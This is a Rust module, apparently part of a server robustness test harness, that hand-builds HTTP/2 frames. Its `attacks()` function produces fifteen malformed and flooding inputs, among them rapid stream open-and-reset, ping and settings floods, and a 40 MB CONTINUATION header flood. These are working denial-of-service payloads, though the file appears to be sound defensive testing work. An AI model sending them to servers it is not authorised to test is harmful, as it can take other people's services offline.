//! HTTP/2 frame by frame (RFC 9113), for what no library sends.

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `POST`, `http`, path `/`, all from the static table of RFC 7541.
const POST: &[u8] = &[0x83, 0x86, 0x84];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn after_settings(frames: impl IntoIterator<Item = Vec<u8>>) -> Vec<u8> {
    let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    frames.into_iter().for_each(|frame| bytes.extend(frame));
    bytes
}

fn noise(length: u32) -> Vec<u8> {
    (0..length).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect()
}

/// What to send to a port that speaks HTTP/2.
pub(super) fn attacks() -> Vec<(&'static str, Vec<u8>)> {
    let stream = |n: u32| 2 * n + 1;
    let opened = |n: u32| frame(HEADERS, END_HEADERS, stream(n), POST);
    let reset = |n: u32| [opened(n), frame(RST_STREAM, 0, stream(n), &[0, 0, 0, 8])].concat();
    vec![
        ("garbage after the preface", [PREFACE, &noise(4096)].concat()),
        ("a preface that goes wrong", b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n".to_vec()),
        (
            "a frame of 16 MB",
            after_settings([[&[0xff, 0xff, 0xff, DATA, 0], &1_u32.to_be_bytes()[..], &noise(1 << 17)].concat()]),
        ),
        ("data before headers", after_settings([frame(DATA, 0, 1, b"hello")])),
        ("data of no stream", after_settings([frame(DATA, 0, 0, b"hello")])),
        ("garbage for headers", after_settings([frame(HEADERS, END_HEADERS, 1, &noise(64))])),
        ("headers of a stream that is ours", after_settings([frame(HEADERS, END_HEADERS, 2, POST)])),
        ("a window that overflows", after_settings([opened(0), frame(WINDOW_UPDATE, 0, 1, &[0x7f, 0xff, 0xff, 0xff])])),
        ("frames of an unknown kind", after_settings((0..10_000).map(|_| frame(0xfe, 0xff, 7, b"what")))),
        ("20,000 streams opened and reset", after_settings((0..20_000).map(reset))),
        ("20,000 streams left open", after_settings((0..20_000).map(opened))),
        ("100,000 pings", after_settings((0..100_000).map(|_| frame(PING, 0, 0, &[7; 8])))),
        ("100,000 settings", after_settings((0..100_000).map(|_| frame(SETTINGS, 0, 0, &[])))),
        (
            "100,000 empty frames",
            after_settings([opened(0)].into_iter().chain((0..100_000).map(|_| frame(DATA, 0, 1, &[])))),
        ),
        ("headers of 40 MB", {
            let long = [&[0x00, 0x01, b'x', 0x7f, 0x80, 0x7f][..], &[b'y'; 16_000]].concat();
            let rest = (0..2500).map(|_| frame(CONTINUATION, 0, 1, &long));
            after_settings([frame(HEADERS, END_STREAM, 1, POST)].into_iter().chain(rest))
        }),
    ]
}
